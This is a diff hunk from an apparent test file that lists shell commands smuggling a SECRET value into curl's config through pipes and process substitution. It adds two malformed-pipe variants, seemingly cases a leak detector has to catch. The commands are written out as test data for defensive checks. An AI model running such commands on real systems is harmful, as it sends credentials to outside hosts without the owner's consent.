@@ -37,6 +37,9 @@ SECRET = "S3CRETxyz"
         f"!false||echo 'user = u:{SECRET}' | curl -K -",
         f"!true;echo 'user = u:{SECRET}' | curl -K -",
         f"!sleep 1 &echo 'user = u:{SECRET}' | curl -K -",
+        # (bash refuses an empty stage, ``a & | b``: read as the pipe the user meant)
+        f"!echo 'user = u:{SECRET}' | grep a& | curl -K -",
+        f"!echo 'user = u:{SECRET}'; | curl -K -",
         # 5. echo's words unquoted: it writes them joined by spaces, one config line
         f"!curl -K <(echo user = u:{SECRET}) https://x",
         f"!curl -K <(echo user=u:{SECRET}) https://x",
